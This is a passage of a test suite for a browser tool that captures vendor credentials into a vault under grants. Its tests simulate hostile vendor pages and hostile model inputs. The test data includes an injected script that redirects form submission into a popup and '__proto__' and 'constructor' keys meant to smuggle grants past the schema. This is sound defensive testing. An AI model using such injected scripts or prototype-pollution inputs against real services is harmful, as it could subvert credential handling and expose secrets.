        if (/secret:/.test(dialog.text)) problems.push(`the dialog's text: ${dialog.text}`);
        await new Promise((r) => setTimeout(r, 3_000));
        const after = written();
        if (after.length !== before.length) {
          problems.push(
            `the capture went on after the call returned and wrote ${
              after.join(", ")
            }; grants now ${
              (await Promise.all(Object.values(ids).map((id) => w.grants.get(id))))
                .map((g) => g?.state).join(", ")
            }: the model was never told`,
          );
        }
        await assertTainted(c, github.origin).catch((e) => problems.push(String(e)));
        assert.deepEqual(problems, []);
      },
    );

    await t.step(
      "registration submitted into a popup (target=_blank): fails closed, nothing written",
      async () => {
        const a = await attempt("linear_oauth_app", {
          linear: {
            formHead:
              `<script>document.addEventListener("submit", (e) => { e.target.target = "_blank"; }, true);</script>`,
          },
        });
        assert.equal(a.out.isError, true, a.out.text);
      },
    );

    // --- a failed check submits nothing ------------------------------------------------

    await t.step(
      "failed checks (one grant for every output, a fill grant, another agent's grants): the vendor sees nothing",
      async () => {
        const c = await w.connect();
        const g = await w.grant("github_app", GITHUB_OUTPUTS);
        const fill = (await w.grants.add({
          secret_id: "placeholder",
          agent: "alice",
          purpose: "fill",
          mode: "once",
          expires: "1h",
          uses: [{ kind: "fill", allowed_origins: [github.origin] }],
        }, { approve: true })).id;
        const bob = await w.grant("github_app", GITHUB_OUTPUTS, { agent: "bob" });
        for (
          const outputs of [
            { pem: g.ids.pem, client_secret: g.ids.pem, webhook_secret: g.ids.pem },
            { ...g.ids, webhook_secret: fill },
            bob.ids,
          ]
        ) {
          const before = vendorSeen();
          const out = await c.call("browser_capture_credentials", {
            workflow: "github_app",
            outputs,
          });
          assert.equal(out.isError, true, out.text);
          assert.match(out.text, /GRANT_[A-Z_]+/);
          assert.match(out.text, /nothing (was )?submitted/);
          assert.equal(vendorSeen(), before, "the vendor saw no request at all");
        }
        for (const id of [...Object.values(g.targets), ...Object.values(bob.targets)]) {
          assert.equal(Vault.has(w.db, id), false);
        }
        for (const id of [...Object.values(g.ids), ...Object.values(bob.ids)]) {
          assert.equal((await w.grants.get(id))?.state, "active");
        }
        assert.equal(await w.reveal("placeholder"), "not-a-minted-value-0000");
        await assertTainted(c, github.origin);
      },
    );

    // --- a hostile model ------------------------------------------------------------------

    await t.step("junk arguments: a clear INVALID_ARGUMENTS, nothing sent", async () => {
      const c = await w.connect();
      const g = await w.grant("github_app", GITHUB_OUTPUTS);
      const huge = "h".repeat(200_000);
      const thousand: Record<string, string> = {};
      for (let i = 0; i < 1000; i++) thousand[`out${i}`] = `g_${i}`;
      const cases: [Record<string, unknown> | null, RegExp, RegExp][] = [
        [{}, /INVALID_ARGUMENTS/, /workflow/],
        [{ outputs: g.ids }, /INVALID_ARGUMENTS/, /workflow/],
        [{ workflow: "github_app" }, /INVALID_ARGUMENTS/, /outputs/],
        [{ workflow: "aws_iam_user", outputs: g.ids }, /INVALID_ARGUMENTS/, /workflow/],
        [{ workflow: "github_app", outputs: "g_abc" }, /INVALID_ARGUMENTS/, /outputs/],
        [{ workflow: "github_app", outputs: [g.ids.pem] }, /INVALID_ARGUMENTS/, /outputs/],
        [{ workflow: "github_app", outputs: { pem: 5 } }, /INVALID_ARGUMENTS/, /outputs/],
        [{ workflow: "github_app", outputs: null }, /INVALID_ARGUMENTS/, /outputs/],
        [{ workflow: huge, outputs: g.ids }, /INVALID_ARGUMENTS/, /workflow/],
        [{ workflow: "github_app", outputs: { [huge]: "g_x" } }, /INVALID_ARGUMENTS/, /outputs/],
        [{ workflow: "github_app", outputs: { pem: huge } }, /INVALID_ARGUMENTS/, /outputs/],
        [
          { workflow: "github_app", outputs: g.ids, url: `${bystander.origin}/x` },
          /INVALID_ARGUMENTS/,
          /url|[Uu]nrecognized/,
        ],
        [{ workflow: ["github_app"], outputs: g.ids }, /INVALID_ARGUMENTS/, /workflow/],
        // The MCP layer refuses non-object arguments itself, before the tool.
        [null, /INVALID_ARGUMENTS|expected record/, /workflow|outputs|arguments/],
      ];
      // Every case runs; every broken one is reported together.
      const problems: string[] = [];
      const check = (fn: () => void) => {
        try {
          fn();
        } catch (err) {
          problems.push(err instanceof Error ? err.message.slice(0, 300) : String(err));
        }
      };
      for (const [args, code, names] of cases) {
        const before = vendorSeen();
        const out = await c.call(
          "browser_capture_credentials",
          args as Record<string, unknown>,
        );
        const what = JSON.stringify(args)?.slice(0, 60);
        check(() => {
          assert.equal(out.isError, true, `${what}: ${out.text}`);
          assert.match(out.text, code, `${what}: ${out.text}`);
          assert.match(out.text, names, `${what}: ${out.text}`);
          assert.ok(
            out.text.length < 2_000,
            `${what}: the error echoes the input (${out.text.length} chars)`,
          );
          assert.equal(vendorSeen(), before);
        });
      }
      // Well-formed but not the workflow's outputs: a capture status, nothing sent.
      for (
        const outputs of [
          thousand,
          // A computed key: an own "__proto__" property, as JSON.parse makes one (its own
          // grants: a schema that drops the key would run the capture with them).
          { ...(await w.grant("github_app", GITHUB_OUTPUTS)).ids, ["__proto__"]: g.ids.pem },
          { ...g.ids, constructor: g.ids.pem },
          {},
        ]
      ) {
        const before = vendorSeen();
        const out = await c.call("browser_capture_credentials", {
          workflow: "github_app",
          outputs,
        });
        const what = JSON.stringify(outputs).slice(0, 60);
        check(() => {
          assert.equal(out.isError, true, `${what}: ${out.text}`);
          assert.match(out.text, /CAPTURE_OUTPUTS|INVALID_ARGUMENTS/, `${what}: ${out.text}`);
          assert.ok(out.text.length < 2_000, `${what}: the error is long (${out.text.length})`);
          assert.equal(vendorSeen(), before);
        });
      }
      assert.deepEqual(problems, []);
      for (const id of Object.values(g.targets)) assert.equal(Vault.has(w.db, id), false);
      for (const id of Object.values(g.ids)) {
        assert.equal((await w.grants.get(id))?.state, "active");
      }
    });

    // --- the leak search -------------------------------------------------------------------

    await t.step("the leak search: no code or minted value anywhere, in any encoding", async () => {
      assertNoLeak({
        values: [
          ...new Set([
            ...secrets,
            ...mintedSecrets(github.minted),
            ...mintedSecrets(linear.minted),
          ]),
        ],
        places: [...await w.places(), ["the log", logs.join("\n")]],
        atLeast: 30,
      });
      assert.deepEqual(attacker.requests.map((r) => r.url.slice(0, 60)), []);
    });

    // --- last: it changes what the whole process redacts and refuses ------------------------

    await t.step(
      "a conversion answer whose unused field is a common string does not poison other sessions",
      async () => {
        // client_id is not even an output of github_app, and the schema ignores it.
        const m = github.minted.length;
        Object.assign(
          github.options,
          {
            conversion: (app) => jsonAnswer({ ...conversionBody(app), client_id: "https://" }, 201),
          } satisfies HostileGithubOptions,
        );
        const g = await w.grant("github_app", GITHUB_OUTPUTS);
        let out;
        try {
          out = await (await w.connect()).call("browser_capture_credentials", {
            workflow: "github_app",
            outputs: g.ids,
          });
        } finally {
          delete github.options.conversion;
        }
        assert.match(out.text, /CAPTURE_DONE/, out.text);
        assert.equal(github.minted.length, m + 1);
        secrets.push(...mintedSecrets(github.minted.slice(m)));
        // Another, clean session of the same runtime: its calls are its own.
        const fresh = await w.connect();
        const nav = await fresh.call("browser_navigate", { url: `${linear.origin}/` });
        const problems: string[] = [];
        if (/SECRET_VALUE/.test(nav.text)) {
          problems.push(`a clean session's navigation to an allowed origin: ${nav.text}`);
        }
        const lin = await w.grant("linear_oauth_app", LINEAR_OUTPUTS);
        const cap = await (await w.connect()).call("browser_capture_credentials", {
          workflow: "linear_oauth_app",
          outputs: lin.ids,
        });
        if (cap.isError) problems.push(`a clean session's Linear capture: ${cap.text}`);
        secrets.push(...mintedSecrets(linear.minted.slice(-1)));
        assert.deepEqual(problems, [], "one vendor's answer poisoned every session");
      },
    );
  } finally {
    restore();
  }
});
